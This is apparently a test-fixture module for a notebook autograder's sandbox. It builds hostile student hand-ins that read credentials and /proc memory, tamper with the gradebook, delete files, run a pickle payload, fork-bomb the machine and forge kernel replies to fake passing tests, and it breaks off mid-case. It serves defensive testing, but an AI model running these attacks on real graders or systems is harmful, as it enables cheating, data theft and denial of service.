"""Hostile and broken hand-ins: what each tries, how it is made, and what must come of it.

Every attack that can tell whether it succeeded says so itself, by printing ``BREACH`` and what it got; the
probes of :mod:`trial` look from outside as well. Words between ``@`` are replaced by what is attacked, see
:class:`Targets`. A case with ``known_limit`` cannot be told from honest work in principle: a test in the
learner's own process can be deceived by it. Such a case is listed, never counted as stopped.
"""

from __future__ import annotations

import base64
import io
import json
import os
import stat
import struct
import textwrap
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from small_class import FULL, RIGHT, WRONG, factory, hand_in

NONE = dict.fromkeys(FULL, 0.0)
HONEST = ("00-honest", "honest", "zz-honest")

_TOO_MUCH = "would exhaust this machine without walls"
_KILLS = "would signal or end other processes of this machine"
_PYTHON = "would write into this machine's Python"
_PEEKS = "would read this machine's own secrets"


def only(*questions: str) -> dict[str, float]:
    """Full points for these questions, 0 for the others."""
    return {q: points if q in questions else 0.0 for q, points in FULL.items()}


@dataclass(frozen=True)
class Targets:
    """What the hand-ins of one run attack."""

    course: Path
    hand_ins: Path
    out: Path
    outside: Path  # nothing may appear in it
    port: int  # TCP and UDP, on the loopback
    abstract: str  # an abstract Unix socket
    socket: Path  # a Unix socket with a path
    bystander: int  # a process that must not be disturbed

    def fill(self, source: str, case: str) -> str:
        """Replace the words between ``@``."""
        words = {**vars(self), "case": case, "victim": HONEST[1]}
        for name, value in words.items():
            source = source.replace(f"@{name}@", str(value))
        return source


Place = Callable[[Path, Targets, "Case"], None]


@dataclass(frozen=True)
class Case:
    """One hand-in.

    Parameters
    ----------
    name : str
        Also the learner's name.
    tries, tries_ja : str
        One line for the table.
    place : callable
        Writes the hand-in below the folder of hand-ins.
    points : mapping of str to float or None
        Of the machine-graded questions; None: rejected, with a line of its own.
    needs_review : bool
        A person must be asked.
    assignment : {"plain", "checked"}
    known_limit : str
        Why this cannot be told from honest work.
    not_for_stock : str
        Why it is not run without walls.
    """

    name: str
    tries: str
    tries_ja: str
    place: Place
    points: Mapping[str, float] | None = field(default_factory=lambda: dict(FULL))
    needs_review: bool = False
    assignment: str = "plain"
    known_limit: str = ""
    not_for_stock: str = ""
    learner: str = ""  # where it differs from the case's name

    @property
    def folder(self) -> str:
        """The name under which it is handed in."""
        return self.learner or self.name


# ---------------------------------------------------------------- ways to make a hand-in

ATTEMPT = """\
def attempt(what, act):
    try:
        got = act()
    except BaseException as error:
        print(what, type(error).__name__, str(error)[:80])
    else:
        print('BREACH' if got is not False else 'no', what, str(got)[:200])
"""


def _bytes_of(nb: NotebookNode) -> bytes:
    return json.dumps(nb).encode()


def _notebook(
    case: Case,
    targets: Targets,
    start: str,
    middle: str,
    answers: Mapping[str, str],
    spoil: Callable[[NotebookNode], None] | None = None,
) -> NotebookNode:
    nb = hand_in(
        case.assignment,
        {q: targets.fill(textwrap.dedent(source).strip(), case.name) for q, source in answers.items()},
    )
    for before, source in (("p2", middle), ("p1", start)):
        if source:
            source = textwrap.dedent(source).strip()
            if "attempt(" in source:
                source = f"{ATTEMPT}\n{source}"
            at = next(n for n, c in enumerate(nb.cells) if c["id"] == before)
            nb.cells.insert(at, factory.code(targets.fill(source, case.name)))
    if spoil:
        spoil(nb)
    return nb


def code(start: str = "", middle: str = "", **answers: str) -> Place:
    """Right answers (or these), with a cell at the start or between the first two questions."""

    def place(folder: Path, targets: Targets, case: Case) -> None:
        nb = _notebook(case, targets, start, middle, {**RIGHT, **answers})
        _put(folder, case, _bytes_of(nb))

    return place


def cheat(start: str = "", **answers: str) -> Place:
    """Wrong answers (or these), with a cell that shall earn points nevertheless."""
    return code(start, **{**WRONG, **answers})


def spoiled(spoil: Callable[[NotebookNode], None], answers: Mapping[str, str] = RIGHT) -> Place:
    """A hand-in whose notebook was changed."""

    def place(folder: Path, targets: Targets, case: Case) -> None:
        _put(folder, case, _bytes_of(_notebook(case, targets, "", "", answers, spoil)))

    return place


def raw(change: Callable[[bytes], bytes]) -> Place:
    """A right hand-in whose bytes were changed."""

    def place(folder: Path, targets: Targets, case: Case) -> None:
        _put(folder, case, change(_bytes_of(_notebook(case, targets, "", "", RIGHT))))

    return place


def zipped(add: Callable[[zipfile.ZipFile, Case, bytes], None], change=lambda content: content) -> Place:
    """A zip of its own among the hand-ins."""

    def place(folder: Path, targets: Targets, case: Case) -> None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            add(archive, case, _bytes_of(_notebook(case, targets, "", "", RIGHT)))
        (folder / case.folder).mkdir()
        (folder / case.folder / "hand-in.zip").write_bytes(change(buffer.getvalue()))

    return place


def _put(folder: Path, case: Case, content: bytes) -> Path:
    path = folder / case.folder / f"{case.assignment}.ipynb"
    path.parent.mkdir(parents=True)
    path.write_bytes(content)
    return path


def _cell(nb: NotebookNode, grade_id: str) -> NotebookNode:
    return factory.cell_of(nb, grade_id)


# ---------------------------------------------------------------- out of the kernel

ESCAPES = [
    Case(
        "reads-course",
        "reads the source notebook with its hidden tests",
        "解答と隠しテストのあるノートブックを読む",
        code(
            """
            attempt('course', lambda: open('@course@/source/plain/plain.ipynb').read())
            """,
        ),
    ),
    Case(
        "walks-the-machine",
        "looks for notebooks, keys and gradebooks everywhere",
        "パソコンじゅうの成績簿・鍵・ノートブックを探す",
        code(
            """
            import glob, os
            def look():
                names = ['/root/.bashrc', '/root/.ssh', '/home', '/etc/shadow', '@out@', '@hand_ins@']
                seen = [n for n in names if os.path.exists(n)]
                seen += [f for f in glob.glob('/tmp/*/*') + glob.glob('/*') if f.endswith(('.db', '.ipynb'))]
                return seen or False
            attempt('sees', look)
            """,
        ),
        not_for_stock=_PEEKS,
    ),
    Case(
        "writes-outside",
        "writes files outside its folder",
        "自分のフォルダーの外に書く",
        code(
            """
            attempt('wrote', lambda: open('@outside@/@case@', 'w').write('x'))
            attempt('climbed', lambda: open('../../../../../../..@outside@/@case@', 'w').write('x'))
            """,
        ),
    ),
    Case(
        "deletes-course",
        "deletes the course, the hand-ins and the results",
        "講座・提出物・採点結果を消す",
        code(
            """
            import shutil
            for place in ('@course@', '@hand_ins@', '@out@'):
                shutil.rmtree(place, ignore_errors=True)
            """,
        ),
    ),
    Case(
        "rewrites-gradebook",
        "gives itself 400 points in the gradebook, the victim 0",
        "成績簿で自分を400点、ほかの人を0点にする",
        code(
            """
            import glob, sqlite3
            def write():
                done = False
                for path in ['@out@/gradebook.db', *glob.glob('@out@/**/gradebook.db')]:
                    db = sqlite3.connect(path, timeout=1)
                    done = db.execute('update grade set manual_score = 400').rowcount
                    db.execute('update grade_cell set max_score = 400')
                    db.commit()
                return done
            attempt('gradebook', write)
            """,
        ),
    ),
    Case(
        "edits-anothers",
        "empties the hand-ins of the others",
        "ほかの人の提出物を空にする",
        code(
            """
            import glob
            def empty():
                paths = [p for h in ('honest', 'zz-honest')
                         for p in glob.glob('@hand_ins@/' + h + '/**/*.ipynb', recursive=True)]
                for path in paths:
                    open(path, 'w').close()
                return paths or False
            attempt('emptied', empty)
            """,
        ),
    ),
    Case(
        "ptrace",
        "attaches to the process that started it",
        "自分を起動したプロセスを ptrace で乗っとる",
        code(
            """
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            for pid in (os.getppid(), @bystander@, 1):
                if pid != os.getpid():
                    attempt(f'ptrace {pid}', lambda: libc.ptrace(16, pid, 0, 0) == 0)
            """,
        ),
        not_for_stock=_KILLS,
    ),
    Case(
        "reads-memory",
        "reads memory, environment and files of other processes through /proc",
        "/proc からほかのプロセスのメモリと環境変数を読む",
        code(
            r"""
            import glob, os, re
            for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
                try:
                    print(open(path, errors='replace').read())
                except OSError:
                    pass
            for pid in {os.getppid(), @bystander@, 1} - {os.getpid(), 0}:
                try:
                    maps = open(f'/proc/{pid}/maps').read()
                    low, high = re.search(r'(\w+)-(\w+) rw.*heap', maps).groups()
                    memory = open(f'/proc/{pid}/mem', 'rb')
                    memory.seek(int(low, 16))
                    print('BREACH memory', pid, len(memory.read(4096)))
                except (OSError, AttributeError):
                    pass
                for name in ('root', 'cwd', 'fd/0', 'exe'):
                    try:
                        print('BREACH link', pid, os.readlink(f'/proc/{pid}/{name}'))
                    except OSError:
                        pass
            """,
        ),
        not_for_stock=_PEEKS,
    ),
    Case(
        "reads-memory-by-call",
        "reads another process by process_vm_readv, copies its descriptors by pidfd",
        "process_vm_readv と pidfd でほかのプロセスに入る",
        code(
            """
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            class Part(ctypes.Structure):
                _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
            room = ctypes.create_string_buffer(8)
            here = Part(ctypes.addressof(room), 8)
            there = Part(id(None), 8)
            libc.process_vm_readv.restype = ctypes.c_ssize_t
            for pid in {os.getppid(), @bystander@, 1} - {os.getpid(), 0}:
                attempt(f'read {pid}', lambda: libc.process_vm_readv(
                    pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0)
                attempt(f'pidfd {pid}', lambda: libc.syscall(438, os.pidfd_open(pid), 0, 0) >= 0)
            """,
        ),
        not_for_stock=_PEEKS,
    ),
    Case(
        "environment",
        "prints the environment, looking for tokens",
        "環境変数からトークンを読む",
        code(
            """
            import os
            print(dict(os.environ))
            get_ipython().system('env')
            """,
        ),
    ),
    Case(
        "tcp",
        "connects to a server on this machine by TCP",
        "このパソコンのサーバーに TCP でつなぐ",
        code(
            """
            import socket, urllib.request
            def connect():
                with socket.create_connection(('127.0.0.1', @port@), timeout=2) as s:
                    s.sendall(b'@case@')
            attempt('tcp', connect)
            address = 'http://127.0.0.1:@port@/@case@'
            attempt('http', lambda: urllib.request.urlopen(address, timeout=2).status)
            """,
        ),
    ),
    Case(
        "udp",
        "sends UDP to this machine and to the world",
        "UDP で外に送る",
        code(
            """
            import socket
            def send():
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.sendto(b'@case@', ('127.0.0.1', @port@))
            attempt('udp', send)
            attempt('raw', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
            attempt('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
            attempt('udp6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))
            """,
        ),
        not_for_stock=_PEEKS,
    ),
    Case(
        "abstract-socket",
        "talks to an abstract Unix socket",
        "抽象 Unix ソケットにつなぐ",
        code(
            r"""
            import socket
            def send():
                s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
                s.sendto(b'@case@', '\0@abstract@')
            attempt('abstract', send)
            """,
        ),
    ),
    Case(
        "path-socket",
        "talks to a Unix socket of the machine, by every call there is",
        "パス付きの Unix ソケットに、あらゆる呼び出しでつなぐ",
        code(
            """
            import socket
            def one(act):
                s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
                act(s)
                s.close()
            attempt('sendto', lambda: one(lambda s: s.sendto(b'@case@', '@socket@')))
            attempt('sendmsg', lambda: one(lambda s: s.sendmsg([b'@case@'], [], 0, '@socket@')))
            attempt('connect', lambda: one(lambda s: (s.connect('@socket@'), s.send(b'@case@'))))
            attempt('docker', lambda: socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock'))
            """,
        ),
    ),
    Case(
        "signals",
        "signals its parent, a bystander, its group and everybody",
        "親・ほかのプロセス・全員にシグナルを送る",
        code(
            """
            import os, signal
            for pid in (os.getppid(), @bystander@, -@bystander@):
                for number in (signal.SIGTERM, signal.SIGKILL):
                    if pid not in (0, 1, os.getpid()):
                        try:
                            os.kill(pid, number)
                            print('BREACH signalled', pid)
                        except OSError:
                            pass
            """,
        ),
        not_for_stock=_KILLS,
    ),
    Case(
        "system-calls",
        "calls mount, unshare, chroot, bpf, keyctl, io_uring and the clock directly",
        "mount・unshare・bpf などのシステムコールを直接よぶ",
        code(
            """
            import ctypes, os, time
            libc = ctypes.CDLL(None, use_errno=True)
            ok = lambda result: result >= 0
            attempt('mount', lambda: ok(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)))
            attempt('user namespace', lambda: ok(libc.unshare(0x10000000)))
            attempt('network namespace', lambda: ok(libc.unshare(0x40000000)))
            attempt('chroot', lambda: ok(libc.chroot(b'/')))
            attempt('root', lambda: ok(libc.setuid(0)))
            attempt('clock', lambda: time.clock_settime(time.CLOCK_REALTIME, 0))
            attempt('hostname', lambda: ok(libc.sethostname(b'mine', 4)))
            for name, number in (('bpf', 321), ('keyctl', 250), ('io_uring', 425), ('perf', 298),
                                 ('userfaultfd', 323), ('open_tree', 428), ('handle', 304)):
                attempt(name, lambda: ok(libc.syscall(number, 0, 0, 0, 0, 0)))
            attempt('device', lambda: os.mknod('disk', 0o60600, os.makedev(8, 0)))
            attempt('priority', lambda: os.setpriority(os.PRIO_PROCESS, 0, -10))
            """,
        ),
        not_for_stock="would change this machine's clock and mounts",
    ),
    Case(
        "set-uid-programs",
        "calls sudo, su, mount and newuidmap",
        "sudo・su・mount・newuidmap を呼ぶ",
        code(
            """
            import os, subprocess
            for command in ('sudo -n id', 'su -c id', 'mount -t tmpfs none /mnt', 'newuidmap 1 0 0 1',
                            'pkexec id', 'unshare -r id'):
                done = subprocess.run(command, shell=True, capture_output=True, text=True,
                                      stdin=subprocess.DEVNULL)
                print('BREACH' if done.returncode == 0 else 'no', command, done.stdout[:80])
            """,
        ),
        not_for_stock=_PEEKS,
    ),
    Case(
        "hard-and-symbolic-links",
        "links files of the course into its folder",
        "講座のファイルへのリンクを、自分のフォルダーに作る",
        code(
            """
            import os
            os.symlink('@course@/source/plain/plain.ipynb', 'mine.csv')
            os.symlink('/etc/passwd', 'waits2.csv')
            attempt('read', lambda: open('mine.csv').read())
            attempt('hard', lambda: os.link('@course@/source/plain/plain.ipynb', 'hard.csv'))
            """,
        ),
    ),
    Case(
        "writes-into-python",
        "plants sitecustomize.py, a .pth file and changed checks",
        "sitecustomize.py・.pth・checks.py を書きかえる",
        code(
            """
            import site, sys, autograder.checks, numpy, os
            places = [*site.getsitepackages(), sys.prefix, site.getusersitepackages(),
                      os.path.dirname(numpy.__file__)]
            for place in places:
                for name in ('sitecustomize.py', 'usercustomize.py', 'mine.pth'):
                    attempt(place, lambda: open(os.path.join(place, name), 'x').write('import os'))
            attempt('checks', lambda: open(autograder.checks.__file__, 'a').write(' '))
            """,
        ),
        not_for_stock=_PYTHON,
    ),
    Case(
        "stays-in-ipython",
        "leaves a start-up file, a profile and a configuration for the next kernel",
        "次の人の Python に残る設定ファイルを書く",
        code(
            r"""
            import os, pathlib
            from IPython.paths import get_ipython_dir
            line = "print('PERSISTED by @case@')\n"
            home = pathlib.Path.home()
            for place, name in ((pathlib.Path(get_ipython_dir(), 'profile_default/startup'), '00.py'),
                                (home / '.ipython/profile_default/startup', '00.py'),
                                (home / '.jupyter', 'jupyter_config.py'),
                                (pathlib.Path('.'), 'sitecustomize.py'),
                                (pathlib.Path('.'), 'numpy.py'),
                                (pathlib.Path('..'), 'nbgrader_config.py')):
                try:
                    place.mkdir(parents=True, exist_ok=True)
                    (place / name).write_text(line)
                except OSError as error:
                    print(error)
            """,
        ),
        not_for_stock="would change this machine's IPython",
    ),
    Case(
        "fork-parents-key",
        "finds the word of the fork server in its memory and asks for a kernel without walls",
        "カーネルの親プロセスの合言葉をメモリから探して使う",
        code(
            """
            import gc, glob, json, socket
            gc.unfreeze()
            keys = {o['key'] for o in gc.get_objects() if type(o) is dict and type(o.get('key')) is str}
            def ask():
                for path in [*glob.glob('/tmp/tkp-*/s'), *glob.glob('/tmp/*/tkp-*/s')]:
                    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                    s.connect(path)
                    for key in keys:
                        s.send(json.dumps({'key': key}).encode())
                    return s.recv(100)
                return False
            attempt('parent', ask)
            """,
        ),
    ),
    Case(
        "pickle",
        "unpickles a payload that runs a command",
        "コマンドを動かす pickle を読みこむ",
        code(
            """
            import os, pickle
            class Payload:
                def __reduce__(self):
                    return os.system, ('echo x > @outside@/@case@',)
            open('data.pkl', 'wb').write(pickle.dumps(Payload()))
            pickle.load(open('data.pkl', 'rb'))
            np.save('p.npy', np.array([Payload()], dtype=object), allow_pickle=True)
            np.load('p.npy', allow_pickle=True)
            """,
        ),
    ),
]

# ---------------------------------------------------------------- processes, memory, disk, time

RESOURCES = [
    Case(
        "background-process",
        "leaves a daemon behind that writes later",
        "あとで書きこむプロセスを残していく",
        code(
            r"""
            import subprocess, sys
            script = ('import os, sys, time\nif os.fork(): os._exit(0)\nos.setsid()\n'
                      'if os.fork(): os._exit(0)\ntime.sleep(4)\n'
                      'open("@outside@/@case@", "w").write("x")\ntime.sleep(20)')
            subprocess.run([sys.executable, '-c', script, 'left-by-@case@'])
            """,
        ),
    ),
    Case(
        "fork-bomb",
        "starts processes without end",
        "プロセスを際限なくふやす",
        code(
            middle="""
            import os
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
            """,
        ),
        points=only("q1"),
        not_for_stock=_TOO_MUCH,
    ),
    Case(
        "many-processes",
        "starts 400 processes that wait",
        "待つだけのプロセスを400個つくる",
        code(
            middle="""
            import os, time
            made = 0
            for _ in range(400):
                try:
                    pid = os.fork()
                except OSError:
                    break
                if not pid:
                    time.sleep(60)
                    os._exit(0)
                made += 1
            print('BREACH' if made > 300 else 'made', made)
            time.sleep(2)
            """,
        ),
        not_for_stock=_TOO_MUCH,
    ),
    Case(
        "many-threads",
        "starts 2000 threads",
        "スレッドを2000本つくる",
        code(
            """
            import threading, time
            made = 0
            try:
                for _ in range(2000):
                    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
                    made += 1
            except RuntimeError:
                pass
            print('BREACH' if made > 500 else 'made', made)
            """,
        ),
        not_for_stock=_TOO_MUCH,
    ),
    Case(
        "many-files-open",
        "opens files until there are no descriptors left",
        "ファイルを開けるだけ開く",
        code(
            """
            held = []
            try:
                while len(held) < 5000:
                    held.append(open('waits.csv'))
            except OSError:
                pass
            print('BREACH' if len(held) > 1000 else 'held', len(held))
            held = None
            """,
        ),
    ),
    Case(
        "memory-at-once",
        "asks for 100 GB at once",
        "メモリを一度に100GB求める",
        code(
            """
            try:
                huge = bytearray(100_000_000_000)
                print('BREACH')
            except MemoryError:
                pass
            """,
        ),
    ),
    Case(
        "memory-step-by-step",
        "takes memory in small pieces",
        "メモリを少しずつ使いつくす",
        code(
            middle="""
            import time
            held = []
            for n in range(2000):
                held.append(b'x' * 10_000_000)
                time.sleep(0.02)
                if n == 150: print('BREACH holds 1.5 GB')
            """,
        ),
        points=only("q1"),
        not_for_stock=_TOO_MUCH,
    ),
    Case(
        "memory-in-children",
        "takes memory in many child processes",
        "たくさんの子プロセスでメモリを使う",
        code(
            middle="""
            import os, time
            for n in range(30):
                if not os.fork():
                    held = b'x' * 50_000_000
                    time.sleep(30)
                    os._exit(0)
                time.sleep(0.05)
            print('BREACH holds 1.5 GB')
            time.sleep(1)
            """,
        ),
        points=only("q1"),
        not_for_stock=_TOO_MUCH,
    ),
    Case(
        "memory-shared",
        "takes memory that two processes share, so that neither seems to own it",
        "2つのプロセスで分けあうメモリを使って、見張りをのがれる",
        code(
            middle="""
            import mmap, os, time
            held = []
            for n in range(10):
                if os.fork():
                    time.sleep(0.3)
                    continue
                room = mmap.mmap(-1, 150_000_000)
                twin = os.fork()
                for at in range(0, len(room), 4096):
                    room[at] = 1
                time.sleep(30)
                os._exit(0)
            print('BREACH holds 1.5 GB')
            time.sleep(1)
            """,
        ),
        points=only("q1"),
        not_for_stock=_TOO_MUCH,
    ),
    Case(
        "memory-in-segments",
        "takes memory in System V segments that belong to no process",
        "どのプロセスのものでもない共有メモリを使う",
        code(
            """
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            libc.shmat.restype = ctypes.c_void_p
            held = 0
            for n in range(20):
                key = libc.shmget(0, ctypes.c_size_t(50_000_000), 0o1600)
                if key < 0: break
                place = libc.shmat(key, None, 0)
                if place in (None, 2**64 - 1): break
                ctypes.memset(place, 1, 50_000_000)
                libc.shmdt(ctypes.c_void_p(place))
                held += 50
            print('BREACH' if held > 600 else 'held', held, 'MB')
            """,
        ),
        not_for_stock=_TOO_MUCH,
    ),
    Case(
        "memory-in-files",
        "takes memory in files that only exist in memory",
        "メモリの中だけにあるファイルに書きつづける",
        code(
            """
            import os
            held, files = 0, []
            try:
                for n in range(20):
                    files.append(os.memfd_create('x'))
                    os.write(files[-1], b'x' * 50_000_000)
                    held += 50
            except OSError as error:
                print(error)
            print('BREACH' if held > 600 else 'held', held, 'MB')
            for f in files:
                os.close(f)
            """,
        ),
        not_for_stock=_TOO_MUCH,
    ),
    Case(
        "disk",
        "fills its folder, the temporary folder and shared memory with files",
        "ディスク・/tmp・/dev/shm をいっぱいにする",
        code(
            """
            import os, tempfile
            held = 0
            for place in ('.', tempfile.gettempdir(), os.path.expanduser('~'), '/dev/shm', '/tmp'):
                for n in range(12):
                    try:
                        with open(os.path.join(place, f'big{n}'), 'wb') as f:
                            for _ in range(60):
                                held += f.write(bytes(1_000_000)) / 1e6
                    except OSError:
                        pass
            print('BREACH' if held > 600 else 'held', held, 'MB')
            import glob
            for path in glob.glob('big*') + glob.glob('/dev/shm/big*'):
                os.unlink(path)
            """,
        ),
        not_for_stock=_TOO_MUCH,
    ),
    Case(
        "file-flood",
        "makes 200 000 empty files, and folders that cannot be entered or deleted easily",
        "空のファイルを20万個と、消しにくいフォルダーを作る",
        code(
            """
            import os
            made = 0
            try:
                for made in range(200_000):
                    open(f'f{made}', 'x').close()
            except OSError:
                pass
            print('BREACH' if made > 100_000 else 'made', made)
            for n in range(made):
                os.unlink(f'f{n}')
            try:
                for _ in range(400):
                    os.mkdir('deep' * 20)
                    os.chdir('deep' * 20)
                os.mkdir('closed', 0)
                os.chmod('..', 0)
            except OSError as error:
                print(error)
            """,
        ),
        not_for_stock=_TOO_MUCH,
    ),
    Case(
        "odd-file-names",
        "leaves files with odd names, modes and types in its folder",
        "おかしな名前や種類のファイルをフォルダーに残す",
        code(
            r"""
            import os
            for name in (b'\xff\xfe.csv', b'a\nb.csv', '\u202evsc.txt'.encode(), b'-rf', b'x' * 255,
                         b'waits.csv ', b'con', b'.. '):
                try:
                    open(name, 'w').close()
                except OSError as error:
                    print(error)
            os.mkfifo('pipe.csv')
            os.symlink('loop', 'loop')
            os.chmod('waits.csv', 0)
            """,
        ),
    ),
    Case(
        "endless",
        "runs for ever and ignores the interrupt",
        "割りこみを無視して動きつづける",
        code(
            middle="""
            import signal
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            while True:
                try:
                    while True: pass
                except BaseException: pass
            """,
        ),
        points=only("q1"),
    ),
    Case(
        "endless-but-polite",
        "runs for ever in an answer, and stops when interrupted",
        "解答が終わらない（割りこめば止まる）",
        code(
            q2="while True: pass",
        ),
        points=only("q1", "q3"),
    ),
    Case(
        "sleeps-in-c",
        "blocks for ever inside C code",
        "C の中で止まったままになる",
        code(
            middle="""
            import ctypes, signal
            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))
            ctypes.PyDLL(None).sleep(600)
            """,
        ),
        points=only("q1"),
    ),
    Case(
        "stops-itself",
        "stops its own process by SIGSTOP",
        "SIGSTOP で自分を止める",
        code(
            middle="""
            import os, signal
            os.kill(os.getpid(), signal.SIGSTOP)
            os._exit(0)
            """,
        ),
        points=only("q1"),
    ),
    Case(
        "hangs-at-the-end",
        "hangs in atexit, in __del__ and in a thread that is no daemon",
        "終わるときに atexit・__del__・スレッドで止まる",
        code(
            """
            import atexit, threading, time
            atexit.register(time.sleep, 600)
            class Stay:
                def __del__(self): time.sleep(600)
            stay = Stay()
            threading.Thread(target=time.sleep, args=(600,)).start()
            """,
        ),
    ),
    Case(
        "slow-cells",
        "keeps every cell just under its time limit",
        "どのセルも制限時間ぎりぎりまで使う",
        spoiled(lambda nb: nb.cells.extend(factory.code("import time\ntime.sleep(2)") for _ in range(20))),
    ),
    Case(
        "catastrophic-pattern",
        "a regular expression that never ends",
        "終わらない正規表現を動かす",
        code(
            middle="""
            import re
            re.match('(a+)+$', 'a' * 60 + 'b')
            """,
        ),
        points=FULL,
    ),
    Case(
        "clock",
        "changes the clock functions and sets alarms",
        "時計の関数をとりかえ、アラームをかける",
        code(
            """
            import signal, time
            time.time = time.monotonic = time.perf_counter = lambda: 0.0
            time.sleep = lambda s: None
            signal.signal(signal.SIGALRM, lambda *_: None)
            signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
            """,
        ),
    ),
    Case(
        "random-numbers",
        "fixes the random numbers and the hashes",
        "乱数を固定し、種を変える",
        code(
            """
            import random
            random.seed = np.random.seed = lambda *a, **k: None
            random.random = lambda: 0.5
            np.random.default_rng = lambda *a: np.random.Generator(np.random.PCG64(1))
            import os, secrets
            os.urandom = lambda n: b'0' * n
            secrets.token_hex = lambda n=8: '0' * 2 * n
            """,
        ),
    ),
]

# ---------------------------------------------------------------- the kernel itself

KERNEL = [
    Case(
        "exits",
        "ends Python in the second answer",
        "2問目の解答で Python を終わらせる",
        code(
            q2="""
            import os
            os._exit(0)
            """,
        ),
        points=only("q1"),
    ),
    Case(
        "exits-politely",
        "raises SystemExit, KeyboardInterrupt, CancelledError and GeneratorExit",
        "SystemExit などの例外を投げる",
        code(
            "raise SystemExit(0)",
            """
            import asyncio
            raise asyncio.CancelledError
            """,
            q2="""
            exit()
            def rate(part, whole):
                raise GeneratorExit
            """,
            q3="raise KeyboardInterrupt",
        ),
        points=only("q1"),
    ),
    Case(
        "shuts-down",
        "asks its own kernel to shut down and restart",
        "カーネルに自分で終了・再起動を命じる",
        code(
            middle="""
            import asyncio
            get_ipython().kernel.do_shutdown(True)
            get_ipython().ask_exit()
            await asyncio.sleep(1)
            """,
        ),
        points=only("q1"),
    ),
    Case(
        "native-crash",
        "reads address 0",
        "0番地を読んで落ちる",
        code(
            q2="""
            import ctypes
            ctypes.string_at(0)
            """,
        ),
        points=only("q1"),
    ),
    Case(
        "native-overflow",
        "overflows the C stack",
        "C のスタックをあふれさせる",
        code(
            q2="""
            import sys
            sys.setrecursionlimit(10**8)
            class A:
                def __repr__(self): return repr(self)
            repr(A())
            """,
        ),
        points=only("q1"),
    ),
    Case(
        "deep-recursion",
        "recurses, and raises errors chained a thousand times",
        "深い再帰と、千重につながったエラーを起こす",
        code(
            """
            def f(n): return f(n + 1)
            f(0)
            """,
            """
            error = None
            for n in range(1000):
                e = ValueError(n)
                e.__cause__, error = error, e
            raise error
            """,
        ),
    ),
    Case(
        "closes-descriptors",
        "closes all of the kernel's sockets",
        "カーネルのソケットをすべて閉じる",
        code(
            middle="""
            import os
            os.closerange(0, 1000)
            """,
        ),
        points=only("q1"),
    ),
    Case(
        "deletes-sockets",
        "deletes the kernel's socket files and its connection file",
        "カーネルのソケットと接続ファイルを消す",
        code(
            """
            import glob, os
            from ipykernel.connect import get_connection_file
            for path in glob.glob(os.path.dirname(get_connection_file()) + '/*'):
                try:
                    os.unlink(path)
                except OSError as error:
                    print(error)
            try:
                open(get_connection_file(), 'w').write('{}')
            except OSError as error:
                print(error)
            """,
        ),
        not_for_stock="its connection file lies in this machine's Jupyter folder",
    ),
    Case(
        "talks-to-itself",
        "reads its connection file and sends messages to its own kernel",
        "接続ファイルを読んで、自分のカーネルに命令を送る",
        code(
            """
            from ipykernel.connect import get_connection_file
            from jupyter_client import BlockingKernelClient
            try:
                kc = BlockingKernelClient(connection_file=get_connection_file())
                kc.load_connection_file()
                kc.start_channels(hb=False)
                kc.execute('mean_wait = kakushi_kotae_1', reply=False, timeout=1)
            except BaseException as error:
                print(type(error).__name__)
            """,
            q1=WRONG["q1"],
        ),
        points=only("q2", "q3"),
    ),
    Case(
        "forged-idle",
        "tells the client on its own that a cell has ended well",
        "「セルは正常に終わった」という偽の知らせを送る",
        code(
            q1="""
            k = get_ipython().kernel
            for _ in range(3):
                k.session.send(k.iopub_socket, 'status', {'execution_state': 'idle'},
                               parent=k.get_parent(), ident=k._topic('status'))
            mean_wait = 3.0
            """,
        ),
        points=only("q2", "q3"),
    ),
    Case(
        "forged-reply",
        "replies itself, without a status and with odd types",
        "形のおかしい返事をカーネルから送る",
        code(
            """
            k = get_ipython().kernel
            old = k.session.send
            odd = {'execution_count': 'many', 'traceback': 7, 'ename': ['x'], 'evalue': {'a': 1}}
            def send(stream, kind, content=None, *a, **o):
                if kind == 'execute_reply' and type(content) is dict:
                    content = {**content, **odd}
                return old(stream, kind, content, *a, **o)
            k.session.send = send
            if hasattr(k, '_line'):
                reply = k._line.reply
                k._line.reply = lambda content: reply({**content, **odd, 'user_expressions': 3})
            """,
        ),
        points=NONE,
        needs_review=True,
    ),
    Case(
        "forged-replies-of-errors",
        "the same with a status of error and a traceback that is no list",
        "エラーの返事の形をこわす",
        code(
            """
            k = get_ipython().kernel
            old = k.session.send
            odd = {'status': 'error', 'traceback': 7, 'ename': ['x'] * 99999, 'evalue': {'a': 1},
                   'execution_count': None}
            def send(stream, kind, content=None, *a, **o):
                if kind == 'execute_reply' and type(content) is dict:
                    content = odd
                return old(stream, kind, content, *a, **o)
            k.session.send = send
            if hasattr(k, '_line'):
                reply = k._line.reply
                k._line.reply = lambda content: reply(odd)
            """,
        ),
        points=NONE,
    ),
    Case(
        "replies-twice",
        "a thread answers each test with success before the kernel does",
        "カーネルより先に、別のスレッドから「合格」と返事をする",
        code(
            """
            import threading, time
            k = get_ipython().kernel
            def hurry():
                line, seen = k._line, k._line._number
                while True:
                    if line._number != seen:
                        seen = line._number
                        line.reply({'status': 'ok', 'execution_count': seen, 'user_expressions': {}})
                    time.sleep(0.0001)
